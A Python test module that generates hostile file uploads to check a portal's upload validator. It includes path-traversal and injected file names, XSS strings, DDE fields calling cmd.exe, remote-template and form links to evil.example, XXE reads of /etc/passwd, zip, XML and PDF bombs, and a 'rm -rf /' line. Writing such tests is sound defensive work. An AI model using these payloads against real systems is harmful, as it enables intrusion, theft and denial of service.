"""Hostile uploads, made at test time: no harmful file is stored in this repository.

Each is (what it is, name as sent, type as sent, bytes, codes of which one must refuse it).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from records.inspection.disguises import OLE
from records.inspection.scanner import EICAR
from records.rules.files import MEDIA_TYPES, FileKind
from tests.hostile.honest import (
    CSV,
    DOCX_MAIN,
    HEAD,
    content_types,
    document_xml,
    docx,
    docx_parts,
    jpg,
    packed,
    pdf,
    png,
    png_of_size,
    relationships,
    xlsx,
)

PDF_TYPE, CSV_TYPE = MEDIA_TYPES[FileKind.PDF], MEDIA_TYPES[FileKind.CSV]
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)


@dataclass(frozen=True)
class Hostile:
    """One hostile upload."""

    what: str
    name: str
    made: bytes | Callable[[], bytes]
    codes: frozenset[str]
    declared: str = ""

    @property
    def data(self) -> bytes:
        """The bytes; large ones are made when they are needed."""
        return self.made() if callable(self.made) else self.made


def hostile(what, name, data, *codes, declared=""):
    return Hostile(what, name, data, frozenset(codes), declared)


def names():
    """Names that trick people, programs or file systems; the content is honest."""
    for what, name, code in (
        ("traversal", "../../etc/cron.d/run.pdf", "name_is_path"),
        ("traversal on Windows", "..\\..\\windows\\win.pdf", "name_is_path"),
        ("absolute path", "/etc/passwd.pdf", "name_is_path"),
        ("drive", "C:bylaws.pdf", "name_is_path"),
        ("alternate stream", "bylaws.pdf::$DATA.pdf", "name_is_path"),
        ("hidden file", ".htaccess.pdf", "name_is_path"),
        ("dots within", "bylaws..pdf", "name_is_path"),
        ("markup in the name", "<img src=x onerror=alert(1)>.pdf", "name_is_path"),
        ("quote in the name", 'a".pdf', "name_is_path"),
        ("pipe in the name", "a|b.pdf", "name_is_path"),
        ("right-to-left override", "invoice\u202efdp.exe.pdf", "name_invisible"),
        ("isolate", "a\u2066b.pdf", "name_invisible"),
        ("zero width", "a\u200bb.pdf", "name_invisible"),
        ("NUL", "a.pdf\0.exe.pdf", "name_invisible"),
        ("line break: header injection", "a\r\nSet-Cookie: x=1.pdf", "name_invisible"),
        ("escape sequence", "a\x1b[31m.pdf", "name_invisible"),
        ("lone surrogate", "a\ud800.pdf", "name_invisible"),
        ("reserved device", "CON.pdf", "name_reserved"),
        ("reserved port", "lpt1.pdf", "name_reserved"),
        ("reserved with endings", "nul.tar.pdf", "name_reserved"),
        ("two endings", "statement.exe.pdf", "name_two_endings"),
        ("two endings, web", "picture.php.pdf", "name_two_endings"),
        ("very long", "a" * 300 + ".pdf", "name_too_long"),
        ("only spaces", "   ", "name_missing"),
        ("no name", "", "name_missing"),
        ("no ending", "bylaws", "kind_not_taken"),
        ("look-alike ending", "bylaws.\u0440df", "kind_not_taken"),
        ("ending with a space", "bylaws.pdf ", "name_reserved"),
    ):
        yield hostile(f"name: {what}", name, pdf(), code)


def kinds_not_taken():
    """Kinds of file that the portal never takes under their own names."""
    for ending, data in (
        ("exe", b"MZ" + b"\0" * 200),
        ("html", HTML),
        ("svg", SVG),
        ("js", b"alert(1)"),
        ("zip", packed({"a.txt": "a"})),
        ("docm", docx()),
        ("xlsm", xlsx()),
        ("doc", OLE + b"\0" * 600),
        ("rtf", b"{\\rtf1\\object}"),
        ("gif", b"GIF89a" + b"\0" * 50),
        ("txt", b"text"),
        ("eml", b"From: a"),
    ):
        yield hostile(f"kind: .{ending}", f"file.{ending}", data, "kind_not_taken")


def disguises():
    """Content that is not what the name says."""
    for what, name, data, *codes in (
        ("program as PDF", "a.pdf", b"MZ" + b"\0" * 200, "content_differs"),
        ("ELF program as PNG", "a.png", b"\x7fELF" + b"\0" * 200, "content_differs"),
        ("HTML as PDF", "a.pdf", HTML, "content_differs"),
        ("HTML as PNG", "a.png", HTML, "content_differs"),
        ("HTML as JPEG", "a.jpg", HTML, "content_differs"),
        ("HTML as CSV", "a.csv", HTML, "content_differs"),
        ("HTML as DOCX", "a.docx", HTML, "file_damaged", "content_differs"),
        ("SVG as PNG", "a.png", SVG, "content_differs"),
        ("SVG as CSV", "a.csv", SVG, "content_differs"),
        ("GIF as PNG", "a.png", b"GIF89a" + b"\0" * 60, "content_differs"),
        (
            "GIF and script as JPEG",
            "a.jpg",
            b"GIF89a/*" + b"\0" * 9 + b"*/=alert(1)",
            "content_differs",
        ),
        ("PNG as JPEG", "a.jpg", png(), "content_differs"),
        ("JPEG as PNG", "a.png", jpg(), "content_differs"),
        ("PDF as DOCX", "a.docx", pdf(), "file_damaged", "content_differs"),
        ("PDF as CSV", "a.csv", pdf(), "text_unreadable", "content_differs"),
        ("RTF as CSV", "a.csv", b"{\\rtf1 a,b}", "content_differs"),
        ("shell script as CSV", "a.csv", b"#!/bin/sh\nrm -rf /,1\n", "content_differs"),
        ("workbook as Word", "a.docx", xlsx(), "content_differs"),
        ("Word as workbook", "a.xlsx", docx(), "content_differs"),
        ("plain zip as Word", "a.docx", packed({"a.txt": "a"}), "archive_not_taken"),
        ("old Office file as Word", "a.docx", OLE + b"\0" * 600, "old_office_format"),
        ("zip as PDF", "a.pdf", packed({"a.txt": "a"}), "content_differs"),
        ("only zeros as PDF", "a.pdf", b"\0" * 500, "content_differs"),
    ):
        yield hostile(what, name, data, *codes)
    yield hostile("declared as HTML", "a.pdf", pdf(), "type_differs", declared="text/html")
    yield hostile("declared as SVG", "a.png", png(), "type_differs", declared="image/svg+xml")
    program = "application/x-msdownload"
    yield hostile("declared as program", "a.docx", docx(), "type_differs", declared=program)


def broken():
    """Files that end too early or hold nothing."""
    for ending, data in (("pdf", pdf()), ("docx", docx()), ("png", png()), ("jpg", jpg())):
        yield hostile(f"0 bytes .{ending}", f"a.{ending}", b"", "file_empty")
        half = data[: len(data) * 2 // 3]
        yield hostile(f"truncated .{ending}", f"a.{ending}", half, "file_damaged")
    yield hostile("0 bytes .csv", "a.csv", b"", "file_empty")
    yield hostile("PNG without pixels", "a.png", png_of_size(500, 500), "file_damaged")
    yield hostile("PDF without pages", "a.pdf", b"%PDF-1.7\n%%EOF\n", "file_damaged")
    yield hostile(
        "Word with broken XML",
        "a.docx",
        docx(parts={"word/document.xml": "<w:document"}),
        "file_damaged",
    )


def macros():
    """Office files that run something or fetch something."""
    parts = docx_parts()

    def word(what, more, *codes):
        return hostile(what, "a.docx", packed({**parts, **more}), *codes or ("active_content",))

    yield word("macro project", {"word/vbaProject.bin": OLE + b"\0" * 100})
    yield word("macro document renamed", {"[Content_Types].xml": content_types(MACRO_MAIN)})
    yield word(
        "macro type beside the honest one",
        {
            "[Content_Types].xml": content_types(
                DOCX_MAIN, f'<Override PartName="/word/x.xml" ContentType="{MACRO_MAIN}"/>'
            )
        },
    )
    yield word("OLE object", {"word/embeddings/oleObject1.bin": OLE + b"\0" * 100})
    yield word("OLE under an honest name", {"word/media/image1.png": OLE + b"\0" * 100})
    yield word("program under an honest name", {"word/media/image1.png": b"MZ" + b"\0" * 99})
    yield word("ActiveX control", {"word/activeX/activeX1.xml": HEAD + "<a/>"})
    yield word(
        "ActiveX by relationship",
        {
            "word/_rels/document.xml.rels": relationships(
                ("control", "activeX1.xml", False), ("activeXControlBinary", "a", False)
            )
        },
    )
    yield word("ribbon with commands", {"customUI/customUI.xml": HEAD + "<customUI/>"})
    yield word(
        "embedded HTML",
        {"word/_rels/document.xml.rels": relationships(("aFChunk", "chunk.html", False))},
    )
    field = "<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
    yield word("DDE field", {"word/document.xml": document_xml(body=field)})
    cut = "".join(f"<w:r><w:instrText>{c}</w:instrText></w:r>" for c in ("DD", "EAU", "TO x"))
    yield word("DDE field in pieces", {"word/document.xml": document_xml(body=f"<w:p>{cut}</w:p>")})
    simple = '<w:fldSimple w:instr="DDE cmd"/>'
    yield word("DDE in an attribute", {"word/document.xml": document_xml(body=simple)})
    for what, kind, target in (
        ("remote template", "attachedTemplate", "https://evil.example/t.dotm"),
        ("remote template on a share", "attachedTemplate", "file://evil.example/share/t.dotm"),
        ("remote picture", "image", "https://evil.example/pixel.png"),
        ("remote OLE link", "oleObject", "https://evil.example/a.xls"),
        ("script link", "hyperlink", "javascript:alert(1)"),
        ("link to a file", "hyperlink", "file:///c:/windows/system32/calc.exe"),
        ("link to a share", "hyperlink", "\\\\evil.example\\share"),
        ("remote frame", "frame", "https://evil.example/"),
    ):
        rels = {"word/_rels/document.xml.rels": relationships((kind, target, True))}
        yield word(what, rels, "fetches_from_elsewhere", "active_content")
    hidden = {
        "word/_rels/document.xml.rels": relationships(("image", "https://evil.example", False))
    }
    yield word("remote picture not marked as external", hidden, "fetches_from_elsewhere")
    for what, path in (
        ("workbook: old macro sheet", "xl/macrosheets/sheet1.xml"),
        ("workbook: data connection", "xl/connections.xml"),
        ("workbook: link to another book", "xl/externalLinks/externalLink1.xml"),
    ):
        yield hostile(what, "a.xlsx", with_part(xlsx(), path, HEAD + "<a/>"), "active_content")


def with_part(container, path, data):
    """A container with one part more."""
    out = io.BytesIO(container)
    with zipfile.ZipFile(out, "a") as more:
        more.writestr(path, data)
    return out.getvalue()


def bombs():
    """Files that swell when they are opened."""
    yield hostile("zip bomb", "a.docx", zip_bomb, "unpacks_too_large")
    yield hostile("zip bomb in pieces", "a.docx", zip_bomb_in_pieces, "unpacks_too_large")
    yield hostile(
        "zip bomb with lying sizes",
        "a.docx",
        lie_about_sizes,
        "unpacks_too_large",
        "file_damaged",
    )
    crowd = {f"word/p{n}.xml": "<a/>" for n in range(3100)}
    yield hostile("thousands of parts", "a.docx", docx(parts=crowd), "too_many_parts")
    nested = {"word/media/inner.zip": packed({"inner.zip": packed({"a": "a"})})}
    yield hostile("zip in zip", "a.docx", docx(parts=nested), "archive_inside")
    yield hostile("overlapping parts", "a.docx", overlapping(), "parts_overlap", "file_damaged")
    yield hostile(
        "a zip that holds itself",
        "a.docx",
        holds_itself(),
        "parts_overlap",
        "archive_inside",
        "part_name",
        "file_damaged",
    )
    laughs = "".join(
        f'<!ENTITY l{n} "{("&l" + str(n - 1) + ";") * 10 if n else "ha"}">' for n in range(10)
    )
    bomb = f'<?xml version="1.0"?><!DOCTYPE d [{laughs}]><d>&l9;</d>'
    yield hostile("XML bomb", "a.docx", docx(parts={"word/document.xml": bomb}), "xml_entities")
    outside = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
    yield hostile(
        "XML reads a file", "a.docx", docx(parts={"word/document.xml": outside}), "xml_entities"
    )
    remote = '<!DOCTYPE d SYSTEM "http://evil.example/d.dtd"><d/>'
    yield hostile(
        "XML fetches its type", "a.docx", docx(parts={"word/styles.xml": remote}), "xml_entities"
    )
    utf16 = ('<?xml version="1.0" encoding="utf-16"?>' + outside).encode("utf-16")
    yield hostile(
        "XML reads a file, in UTF-16",
        "a.docx",
        docx(parts={"word/document.xml": utf16}),
        "xml_entities",
    )
    in_rels = '<!DOCTYPE d [<!ENTITY x "y">]><d/>'
    yield hostile(
        "entities in relationships", "a.docx", docx(parts={"_rels/.rels": in_rels}), "xml_entities"
    )
    deep = "<a>" * 2000 + "</a>" * 2000
    yield hostile(
        "XML without a bottom", "a.docx", docx(parts={"word/document.xml": deep}), "xml_too_deep"
    )
    yield hostile("huge picture", "a.png", png_of_size(100_000, 100_000), "picture_too_large")
    yield hostile("long thin picture", "a.png", png_of_size(30_000, 10), "picture_too_large")
    yield hostile("PDF bomb", "a.pdf", pdf_bomb, "unpacks_too_large")


def zip_bomb():
    return docx(parts={"word/media/image1.png": b"\0" * 60_000_000})


def zip_bomb_in_pieces():
    return docx(parts={f"word/media/i{n}.png": b"\0" * 4_000_000 for n in range(8)})


def pdf_bomb():
    """A little more than the limit, packed to a thousandth."""
    packer, block = zlib.compressobj(9), b"\0" * 10_000_000
    swollen = b"".join(packer.compress(block) for _ in range(101)) + packer.flush()
    return pdf(streams=[("/Filter /FlateDecode", swollen)])


def lie_about_sizes():
    """Claim in the table of contents that the big part is small."""
    true, small = struct.pack("<I", 60_000_000), struct.pack("<I", 1000)
    return zip_bomb().replace(true, small)


def overlapping():
    """Two names for the same packed bytes."""
    whole = docx()
    with zipfile.ZipFile(io.BytesIO(whole)) as container:
        first, second = container.infolist()[:2]
        start = container.start_dir
    table = bytearray(whole[start:])
    old, new = struct.pack("<I", second.header_offset), struct.pack("<I", first.header_offset)
    place = table.find(second.filename.encode()) - 4
    assert table[place : place + 4] == old
    table[place : place + 4] = new
    return whole[:start] + bytes(table)


def holds_itself():
    """A container whose part claims to begin at the container's own first byte."""
    whole = with_part(docx(), "word/self.docx", docx())
    with zipfile.ZipFile(io.BytesIO(whole)) as container:
        start, offset = container.start_dir, container.getinfo("word/self.docx").header_offset
    table = bytearray(whole[start:])
    place = table.find(b"word/self.docx") - 4
    assert table[place : place + 4] == struct.pack("<I", offset)
    table[place : place + 4] = b"\0\0\0\0"
    return whole[:start] + bytes(table)


def containers():
    """Odd zip containers."""
    parts = docx_parts()
    yield hostile(
        "path out of the container",
        "a.docx",
        packed({**parts, "../../evil.xml": "<a/>"}),
        "part_name",
    )
    yield hostile(
        "absolute path in the container",
        "a.docx",
        packed({**parts, "/etc/evil.xml": "<a/>"}),
        "part_name",
    )
    yield hostile(
        "same part twice", "a.docx", with_part(docx(), "WORD/document.xml", "<a/>"), "part_name"
    )
    deep = "/".join("abcdefghijklmnop") + ".xml"
    yield hostile(
        "folders without a bottom", "a.docx", packed({**parts, deep: "<a/>"}), "part_name"
    )
    yield hostile("odd packing", "a.docx", packed(parts, zipfile.ZIP_BZIP2), "odd_packing")
    flagged = bytearray(docx())
    place = flagged.find(b"PK\x01\x02")
    flagged[place + 8] |= 1
    yield hostile("encrypted zip", "a.docx", bytes(flagged), "file_encrypted")
    encrypted = OLE + b"\0" * 500 + "EncryptedPackage".encode("utf-16-le")
    yield hostile("encrypted Word document", "a.docx", encrypted, "file_encrypted")
    yield hostile("encrypted workbook", "a.xlsx", encrypted, "file_encrypted")


def polyglots():
    """Files that are two things at once."""
    archive = packed({"evil.txt": "a"})
    yield hostile("PDF and zip", "a.pdf", pdf(tail=archive), "two_files_in_one")
    inside = pdf(streams=[("", archive)])
    yield hostile("zip within a PDF's stream", "a.pdf", inside, "two_files_in_one")
    yield hostile("PNG and zip", "a.png", png() + archive, "two_files_in_one")
    yield hostile("JPEG and zip", "a.jpg", jpg() + archive, "two_files_in_one")
    yield hostile("PNG and HTML", "a.png", png() + HTML, "two_files_in_one")
    comment = b"\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML
    photo = jpg()
    yield hostile(
        "JPEG with a script in its comment",
        "a.jpg",
        photo[:2] + comment + photo[2:],
        "two_files_in_one",
    )
    told = b"\xff\xfe" + struct.pack(">H", 12) + b"%PDF-1.7 a"
    yield hostile("JPEG that is a PDF", "a.jpg", photo[:2] + told + photo[2:], "two_files_in_one")
    yield hostile(
        "JPEG with a film behind it", "a.jpg", photo + b"\0\0\0\x18ftypmp42" * 9, "two_files_in_one"
    )
    yield hostile(
        "Word behind a program",
        "a.docx",
        b"MZ" + b"\0" * 98 + docx(),
        "file_damaged",
        "two_files_in_one",
    )
    yield hostile("Word with a tail", "a.docx", docx() + HTML, "two_files_in_one")
    page = pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n<script>alert(1)</script>\n")
    yield hostile("PDF and HTML", "a.pdf", page, "two_files_in_one")
    late = b"junk\n" + pdf()
    yield hostile("PDF that begins late", "a.pdf", late, "content_differs")


def acting_pdfs():
    """PDF files that do something."""
    for what, extra, catalog, code in (
        (
            "script at opening",
            ["<< /S /JavaScript /JS (app.alert\\(1\\)) >>"],
            "/OpenAction 4 0 R",
            "pdf_runs",
        ),
        (
            "script with an escaped name",
            ["<< /S /Java#53cript /JS (x) >>"],
            "/OpenAction 4 0 R",
            "pdf_runs",
        ),
        ("starts a program", ["<< /S /Launch /F (cmd.exe) >>"], "/OpenAction 4 0 R", "pdf_runs"),
        (
            "starts a program, escaped",
            ["<< /S /L#61unch /F (cmd.exe) >>"],
            "/OpenAction 4 0 R",
            "pdf_runs",
        ),
        (
            "sends a form",
            ["<< /S /SubmitForm /F (https://evil.example) >>"],
            "/OpenAction 4 0 R",
            "pdf_runs",
        ),
        ("imports data", ["<< /S /ImportData /F (a.fdf) >>"], "/OpenAction 4 0 R", "pdf_runs"),
        ("rich media", ["<< /Type /Annot /Subtype /RichMedia >>"], "", "pdf_runs"),
        (
            "embedded file",
            ["<< /Names [(a) 5 0 R] >>", "<< /F (a.exe) /EF << >> >>"],
            "/Names << /EmbeddedFiles 4 0 R >>",
            "pdf_carries_files",
        ),
        (
            "attachment on a page",
            ["<< /Type /Annot /Subtype /FileAttachment >>"],
            "",
            "pdf_carries_files",
        ),
    ):
        yield hostile(f"PDF: {what}", "a.pdf", pdf(extra=extra, catalog=catalog), code)
    script = b"4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    told = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
    yield hostile(
        "PDF: script in a packed stream",
        "a.pdf",
        pdf(streams=[(told, zlib.compress(script))]),
        "pdf_runs",
    )
    far = zlib.compress(b" " * 3_000_000 + script)
    yield hostile(
        "PDF: script deep in a packed stream", "a.pdf", pdf(streams=[(told, far)]), "pdf_runs"
    )
    odd = "/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]"
    yield hostile(
        "PDF: script packed twice",
        "a.pdf",
        pdf(streams=[(odd, zlib.compress(script).hex().encode() + b">")]),
        "pdf_unusual",
    )
    locked = ["<< /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>"]
    yield hostile(
        "PDF: encrypted", "a.pdf", pdf(extra=locked, trailer="/Encrypt 4 0 R"), "file_encrypted"
    )


def tables():
    """CSV files that are no tables."""
    yield hostile("CSV with NUL", "a.csv", b"a,b\r\n1,\0\r\n", "text_unreadable")
    yield hostile("CSV of random bytes", "a.csv", bytes(range(256)), "text_unreadable")
    yield hostile("CSV with an endless cell", "a.csv", b"a," + b"x" * 200_000, "table_unreadable")
    yield hostile("CSV with an open quote", "a.csv", b'a,"b\r\n', "table_unreadable")
    utf16 = "a,b\r\n1,\0\r\n".encode("utf-16")
    yield hostile("UTF-16 CSV with NUL", "a.csv", utf16, "text_unreadable")


def viruses():
    """The harmless test virus, plain and packed."""
    yield hostile("test virus as CSV", "a.csv", EICAR, "virus_found")
    yield hostile("test virus in a PDF", "a.pdf", pdf(streams=[("", EICAR)]), "virus_found")
    yield hostile(
        "test virus in Word", "a.docx", docx(parts={"word/media/a.txt": EICAR}), "virus_found"
    )
    yield hostile(
        "test virus in Word, zipped",
        "a.docx",
        docx(parts={"word/media/a.zip": packed({"eicar.com": EICAR})}),
        "archive_inside",
    )
    yield hostile("test virus in a table", "a.csv", CSV + EICAR + b",1\r\n", "virus_found")


def corpus():
    """Everything hostile."""
    for family in (
        names,
        kinds_not_taken,
        disguises,
        broken,
        macros,
        bombs,
        containers,
        polyglots,
        acting_pdfs,
        tables,
        viruses,
    ):
        yield from family()
